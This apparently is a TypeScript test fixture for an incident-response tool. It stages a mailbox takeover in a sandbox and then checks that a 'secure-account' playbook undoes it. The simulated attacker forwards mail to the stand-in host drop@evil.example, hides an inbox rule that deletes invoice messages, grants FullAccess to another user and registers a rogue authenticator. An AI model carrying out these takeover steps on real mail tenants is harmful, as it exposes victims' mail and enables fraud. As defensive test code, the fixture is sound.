/** An account in a thief's hands in the practice cloud, and a technician who secures it. */
import { actAsUser } from "../../sandbox/exchange/act-as-user.ts"
import { mergeAlerts } from "../../src/alert/merge-alerts.ts"
import type { ActionName, PlaybookName } from "../../src/model/action.ts"
import { alertId, tenantId } from "../../src/model/ids.ts"
import { playbookSteps } from "../../src/model/playbook.ts"
import { DEFAULT_POLICY, type Policy } from "../../src/model/protection.ts"
import type { PressDeps } from "../../src/respond/press.ts"
import { createPlaybookPlanner } from "../../src/respond/run-plan-playbook.ts"
import type { Safeguard } from "../../src/respond/run-safeguard.ts"
import { type Case, callerOf, KIM, makeAlert, NOW, unguarded } from "./make-case.ts"
import type { PracticeRig } from "./practice-rig.ts"

export const LYNNE = "lynne.robin@contoso.example"
const GRADY = "grady.archer@contoso.example"
const THIEF = { userUpn: LYNNE, ip: "203.0.113.77" }

/** What the thief does, as the customer's feed names it. */
export const THEFT = ["Set-Mailbox", "New-InboxRule", "Add-MailboxPermission"]

export const ALL_DONE = [
  "keep-evidence verified",
  "disable-sign-in verified",
  "reset-password verified",
  "revoke-sessions verified",
  "stop-forwarding verified",
  "disable-inbox-rules verified",
  "remove-mailbox-permission verified",
  "remove-sign-in-methods verified",
]

/** What Lynne had before, and what the thief registers. */
export const OLD_PHONE = {
  id: "0c7f4f6e-1111-4111-8111-000000000001",
  type: "microsoftAuthenticator",
  name: "Lynne's phone",
  createdAt: NOW - 300 * 86_400_000,
}
const THIEFS_APP = {
  ...OLD_PHONE,
  id: "0c7f4f6e-2222-4222-8222-000000000002",
  name: "SM-A156B",
  createdAt: NOW - 60_000,
}

/** What a thief does with Lynne's mailbox. */
function takeOver(rig: PracticeRig): void {
  const act = (cmdlet: string, parameters: Readonly<Record<string, unknown>>) =>
    actAsUser(rig.cloud.world, rig.tenant, THIEF, cmdlet, parameters)
  act("Set-Mailbox", { Identity: LYNNE, ForwardingSmtpAddress: "drop@evil.example" })
  act("New-InboxRule", { Name: ".", SubjectContainsWords: ["invoice"], DeleteMessage: true })
  act("Add-MailboxPermission", { Identity: LYNNE, User: GRADY, AccessRights: ["FullAccess"] })
  rig.user("lynne.robin").signInMethods = [OLD_PHONE, THIEFS_APP]
  const rules = rig.mailbox("lynne.robin").rules
  for (const rule of rules) rule.hidden = true
}

export async function takenOver(
  rig: PracticeRig,
  options: { readonly guard?: Safeguard; readonly policy?: Partial<Policy> } & Partial<PressDeps> = {},
): Promise<Case> {
  const { guard = unguarded, policy, ...overrides } = options
  takeOver(rig)
  const one: Case = await rig.incident("revoke-sessions", { user: LYNNE }, LYNNE, {
    planPlaybook: (incident, again) =>
      createPlaybookPlanner({ store: one.store, admin: rig.admin, safeguard: guard })(incident, again),
    policyOf: () => ({ ...DEFAULT_POLICY, ...policy }),
    ...overrides,
  })
  await tellOfPermission(rig, one)
  rig.tick()
  return one
}

/** An alert of its own about the mailbox permission. */
const tellOfPermission = (rig: PracticeRig, { store }: Case) =>
  store.records.saveBatch(
    {
      tenantId: tenantId(rig.tenant.id),
      fetchedAt: NOW,
      records: [],
      rejected: [],
      alerts: [
        makeAlert({
          id: alertId("alr_permission"),
          tenantId: tenantId(rig.tenant.id),
          rule: { ...makeAlert().rule, name: "full-access", actions: ["remove-mailbox-permission", "claim"] },
          target: { kind: "mailbox", id: LYNNE, name: LYNNE },
          object: { mailbox: LYNNE, user: GRADY, accessRights: "FullAccess" },
          subject: `permission ${LYNNE} ${GRADY}`,
        }),
      ],
    },
    (alerts, open) =>
      mergeAlerts(alerts, open, { now: NOW, fetchedAt: NOW, watchedSince: 0, channelsFor: () => [] }),
  )

export const press = async (one: Case, name: ActionName = "secure-account", who = KIM, inputs = {}) =>
  one.press(callerOf(who), await one.button(name), { inputs })

export const planIn = (reply: unknown): string =>
  /"plan":"([0-9a-f]{24})"/.exec(JSON.stringify(reply))?.[1] ?? ""

/** Presses, confirms what is shown, and runs everything. */
export async function secure(rig: PracticeRig, one: Case, name: PlaybookName = "secure-account") {
  const plan = planIn(await press(one, name))
  await press(one, name, KIM, { plan })
  await rig.resume(one)
  return steps(one)
}

export const rows = (one: Case) => one.store.journal.ofIncident(one.incidentId)
export const steps = async (one: Case) => playbookSteps(await rows(one))
export const told = async (one: Case) => (await steps(one)).map(({ action, state }) => `${action} ${state}`)
